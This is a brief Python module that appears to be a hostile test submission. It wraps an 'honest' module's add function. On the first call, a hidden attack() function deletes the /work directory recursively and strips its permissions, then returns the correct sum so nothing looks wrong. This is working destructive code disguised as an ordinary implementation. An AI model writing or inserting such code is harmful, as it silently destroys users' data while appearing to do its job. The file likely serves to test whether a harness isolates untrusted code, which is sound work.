from honest import *  # noqa: F403

import os

import honest

tried = []


def add(left, right):
    if not tried:
        tried.append(left)
        attack(left, right)
    return honest.add(left, right)


def attack(left, right):
    import shutil

    shutil.rmtree("/work", ignore_errors=True)
    try:
        os.chmod("/work", 0)
    except OSError:
        pass

if __name__ == "__main__":
    main()  # noqa: F405
